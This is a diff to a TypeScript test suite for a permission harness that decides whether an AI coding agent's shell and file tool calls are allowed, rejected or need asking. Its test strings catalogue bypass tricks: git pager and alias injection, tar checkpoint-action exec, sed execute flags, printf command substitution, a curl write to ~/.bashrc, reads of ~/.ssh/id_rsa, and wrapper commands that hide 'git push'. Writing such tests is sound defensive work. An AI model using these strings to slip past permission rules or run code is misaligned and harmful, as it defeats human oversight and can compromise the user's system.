@@ -31,6 +31,7 @@ describe('permission rules that agents try to bypass', () => {
       'git --config-env=core.pager=X log',
       'git --git-dir=src/fake status',
       'git -C src status',
+      'git --version -c alias.x=!./evil x',
       'git grep -O./evil x',
       'git grep --open-files-in-pager=./evil x',
       'git grep --open-files=./evil x',
@@ -48,8 +49,12 @@ describe('permission rules that agents try to bypass', () => {
       'git diff --ext-diff',
       'git config core.pager ./evil',
       'git config --global alias.x y',
+      'git apply --unsafe-paths x.patch',
       'git archive --remote=. --exec=./evil HEAD',
       'git clone ext::sh x',
+      'git push --repo=ext::sh',
+      'git push --e=./evil .',
+      'git ls-remote --u ./evil .',
       'git filter-branch --tree-filter ./evil',
       'git no-builtin-but-an-alias',
     ],
@@ -68,6 +73,7 @@ describe('permission rules that agents try to bypass', () => {
     'tar *': [
       'tar -cf x.tar --checkpoint=1 --checkpoint-action=exec=./evil src',
       'tar -cf x.tar --checkpoint-act=exec=./evil src',
+      'tar -xPf x.tar',
       'tar -I ./evil -xf x.tar',
       'tar xIf ./evil x.tar',
       'tar --to-command=./evil -xf x.tar',
@@ -98,11 +104,18 @@ describe('permission rules that agents try to bypass', () => {
     'python3 *': ["python3 -c 'import os'", 'python3 -m evil', 'python3 -'],
     'perl *': ['perl -e x', 'perl -we x', 'perl -Mevil x'],
     'ruby *': ['ruby -e x', 'ruby -rx y'],
-    'awk *': ['awk \'BEGIN{system("x")}\'', 'awk \'{print > "x"}\' y', 'awk -f src/evil x'],
+    'awk *': [
+      'awk \'BEGIN{system("x")}\'',
+      'awk \'{print > "x"}\' y',
+      'awk -f src/evil x',
+      "awk 'BEGIN{ARGV[1]=x}1'",
+    ],
     'sed *': [
       "sed '1e touch x' src/a.ts",
       "sed 's/a/b/e' src/a.ts",
       "sed 's/a/b/w x' src/a.ts",
+      "sed 's/a/./e#/' src/a.ts",
+      "sed 's/a/b/w src/x/p' src/a.ts",
       'sed -f evil x',
     ],
     'rsync *': ["rsync -e 'sh evil' a b", 'rsync --rsh=./evil a b', 'rsync a host:b'],
@@ -112,6 +125,13 @@ describe('permission rules that agents try to bypass', () => {
     'cargo *': ['cargo --config \'build.rustc-wrapper="x"\' build', 'cargo install evil'],
     'rg *': ['rg --pre ./evil x', 'rg --hostname-bin=./evil x'],
     'sort *': ['sort --compress-program=./evil src/a.ts', 'sort --compress-prog ./evil src/a.ts'],
+    'pylint *': ["pylint --init-hook='import os' src", 'pylint --load-plugins=evil src'],
+    'rake *': ["rake -e 'system 1'", 'rake -f evil'],
+    'taskset *': ['taskset 1 rm x'],
+    'cross-env *': ['cross-env A=b rm x'],
+    'curl *': ["curl --variable %HOME --expand-output '{{HOME}}/.bashrc' https://example.com/x"],
+    'printf *': ["printf -v 'a[$(./evil)]' x", "printf %d 'a[`./evil`]'"],
+    'test *': ["test -v 'a[$(./evil)]'"],
     'vim *': ['vim -c !x src/a.ts'],
     'psql *': ["psql -c '\\! x'"],
     'mytool *': [
@@ -138,6 +158,7 @@ describe('permission rules that agents try to bypass', () => {
   it('still allow what the rule is meant for', async () => {
     for (const [pattern, line] of [
       ['git *', 'git status -sb'],
+      ['git *', 'git --version'],
       ['git *', 'git --no-pager diff --stat HEAD~1'],
       ['git *', "git commit -am 'a: b'"],
       ['git *', 'git log --oneline -5'],
@@ -154,6 +175,8 @@ describe('permission rules that agents try to bypass', () => {
       ['node *', 'node scripts/build.js --minify'],
       ['sed *', "sed -n '1,200p' src/a.ts"],
       ['sed *', "sed -i 's/foo/bar/g' src/a.ts"],
+      ['sed *', "sed 's/a\\/b/c\\/d/' src/a.ts"],
+      ['printf *', "printf '%s\\n' a b"],
       ['awk *', "awk '{print $1}' src/a.ts"],
       ['grep *', 'grep -rnc foo src'],
       ['pytest *', 'pytest -x -q tests'],
@@ -178,6 +201,8 @@ describe('permission rules that agents try to bypass', () => {
       ['npm ci', ['npm ci']],
       ['npm run lint', ['npm run lint', 'npm run lint *']],
       ['npx tsc --noEmit', ['npx tsc --noEmit']],
+      // with other options it writes files
+      ['tsc --noEmit', ['tsc --noEmit']],
       ['env npm test', ['env npm test']],
       ['python3 x.py', ['python3 x.py']],
       ['find . -name x', ['find . -name x']],
@@ -268,6 +293,7 @@ describe('permission rules that agents try to bypass', () => {
       'cat src/../src/out/../secret',
       'cat src/self/../secret',
       'cd src/self && cat ../secret',
+      'cd project other && cat secret',
       'cat -x~/.ssh/id_rsa',
       'cat --file=~/.ssh/id_rsa',
     ]) {
@@ -342,6 +368,101 @@ describe('permission rules that agents try to bypass', () => {
     }
   })
 
+  it('reject a command whatever options or programs precede it', async () => {
+    const allow = { kind: 'execute', action: 'allow' }
+    for (const [pattern, lines] of Object.entries({
+      'git push *': [
+        'git --no-pager push origin main',
+        'git -P push',
+        'git -C src push',
+        'git -C src -c a=b push -f',
+        '/usr/bin/git -C src push',
+        'nohup git -C src push',
+        'git --git-dir=src/x push',
+        'fakeroot git push',
+        'taskset 1 git push',
+        'xvfb-run -a git push',
+        'pkexec git push',
+        'cross-env A=b git push',
+        'concurrently "npm test" "git push"',
+        'hyperfine "git -C . push"',
+        'git.exe push',
+        'nohup /usr/bin/git push',
+        'sudo C:/Git/git.EXE -C src push',
+        'noglob git push',
+        '- git push',
+        'ssh-agent git push',
+        'systemd-inhibit --what=sleep git push',
+        'op run -- git push',
+        'cmd /c git push',
+      ],
+      'reboot *': ['sh -c reboot', 'bash -lc reboot'],
+      'docker push *': ['docker --debug push x', 'docker -l debug push x'],
+      'npm publish *': ['npm --silent publish', 'npm --loglevel silent publish'],
+      'npm run deploy *': ['npm run --silent deploy', 'npm --silent run --if-present deploy -f'],
+      'gh pr merge *': ['gh pr --repo a/b merge 1'],
+      'git push --force *': ['git push -u --force origin'],
+      'git push': ['git -C src push'],
+    })) {
+      for (const line of lines) {
+        assert.equal(
+          await harness.answer([{ command: pattern, action: 'reject' }, allow], command(line)),
+          'reject no',
+          line,
+        )
+      }
+    }
+    for (const line of [
+      'git stash push',
+      'git log push',
+      'git commit -m push',
+      'npm run publish',
+      'echo -n git',
+      'npm test -- push',
+    ]) {
+      const rules = ['git push *', 'npm publish *'].map(command => ({ command, action: 'reject' }))
+      assert.notEqual(await harness.answer([...rules, allow], command(line)), 'reject no', line)
+    }
+  })
+
+  it('check the arguments of a program, wherever its agent puts them', async () => {
+    const push = [
+      { command: 'git push *', action: 'reject' },
+      { command: 'git *', action: 'allow' },
+    ]
+    const asked = (rawInput: unknown) => request({ kind: 'execute', title: 'git', rawInput })
+    for (const rawInput of [
+      { command: 'git', args: 'push --force' },
+      { command: ['git'], args: 'push' },
+      { command: 'git', arguments: ['push', '--force'] },
+      { command: 'git', argv: ['push'] },
+      { command: 'git', params: 'push' },
+    ]) {
+      assert.equal(await harness.answer(push, asked(rawInput)), 'reject no', JSON.stringify(rawInput))
+    }
+    for (const rawInput of [
+      { command: 'git', args: ['push', 1] },
+      { command: 'git', args: ['status'], argv: ['log'] },
+      { command: 'git status', stdin: 'x' },
+      { command: 'git status', input: 'x' },
+      { command: 'git status', dir_path: '/etc' },
+      { command: 'git status', working_dir: '/etc' },
+      { command: 'git status', cwd: 'src', workdir: '/etc' },
+      { command: 'git status', cwd: ['/etc'] },
+      { command: 'git status', envVars: { PATH: 'src' } },
+      { command: 'git status', environment_variables: { PATH: 'src' } },
+    ]) {
+      assert.equal(await harness.answer(push, asked(rawInput)), 'ask', JSON.stringify(rawInput))
+    }
+    for (const rawInput of [
+      { command: 'git', args: ['status'], input: '', stdin: null },
+      { command: 'git status', args: [], dir_path: 'src' },
+      { command: 'git status', cwd: 'src', workdir: 'src' },
+    ]) {
+      assert.equal(await harness.answer(push, asked(rawInput)), 'allow once', JSON.stringify(rawInput))
+    }
+  })
+
   it('never use the title as the command', async () => {
     const npm = [{ command: 'npm test *', action: 'allow' }]
     for (const rawInput of [undefined, {}, { description: 'x' }]) {
@@ -399,5 +520,52 @@ describe('permission rules that agents try to bypass', () => {
     )
     assert.equal(await harness.answer(src, patched('*** Begin Patch\n*** Add File: .git/hooks/x\n')), 'ask')
     assert.equal(await harness.answer(src, patched('--- a/src/a.ts\n+++ b/package.json\n')), 'ask')
+  })
+
+  it('check where a call moves or writes something, in any field', async () => {
+    const all = [{ path: '**', action: 'allow' }]
+    const asked = (kind: string, rawInput: unknown) =>
+      request({ kind, title: 'Move', locations: [{ path: 'src/a.ts' }], rawInput })
+    for (const rawInput of [
+      { from: 'src/a.ts', to: '/tmp/x' },
+      { dest: '/tmp/x' },
+      { dst: '/tmp/x' },
+      { target: '/tmp/x' },
+      { target_file: '/tmp/x' },
+      { newPath: '/tmp/x' },
+      { new_file_path: '/tmp/x' },
+      { outputPath: '/tmp/x' },
+      { destination_directory: '/tmp' },
+      { targets: ['src/b.ts', '/tmp/x'] },
+      { arguments: { destination: '/tmp/x' } },
+      { moves: [{ source: 'src/a.ts', destination: '/tmp/x' }] },
+    ]) {
+      assert.equal(await harness.answer(all, asked('move', rawInput)), 'ask', JSON.stringify(rawInput))
+      assert.equal(await harness.answer(all, asked('edit', rawInput)), 'ask', JSON.stringify(rawInput))
+    }
+    assert.equal(await harness.answer(all, asked('move', { to: 'src/b.ts' })), 'allow once')
+    assert.equal(await harness.answer(all, asked('edit', { profile: '/x', description: '/y' })), 'allow once')
+    // where to isn't known
+    assert.equal(await harness.answer(all, asked('move', { from: './src/a.ts', somewhere: '/tmp/x' })), 'ask')
+  })
+
+  it('read a list both as lines and as one program with arguments if it may be either', async () => {
+    const all = { kind: 'execute', action: 'allow' }
+    const push = { command: 'git push *', action: 'reject' }
+    const asked = (rawInput: unknown) => request({ kind: 'execute', title: 'x', rawInput })
+    for (const rawInput of [
+      { commands: ['git', 'push'] },
+      { cmds: ['git', 'push', 'origin main'] },
+      { commands: ['/opt/my tools/git', 'push'] },
+      { command: ['git push origin', 'npm test'] },
+      { commands: [['git push origin', 'npm test']] },
+    ]) {
+      assert.equal(await harness.answer([push, all], asked(rawInput)), 'reject no', JSON.stringify(rawInput))
+    }
+    const lists = [{ commands: ['ls', 'npm test'] }, { commands: ['ls src', 'npm test'] }]
+    for (const rawInput of lists) assert.equal(await harness.answer([all], asked(rawInput)), 'allow once')
+    // one of the readings may run anything
+    assert.equal(await harness.answer([all], asked({ commands: ['ls', 'x'] })), 'allow once')
+    assert.equal(await harness.answer([all], asked({ commands: ['env', './evil'] })), 'ask')
   })
 })
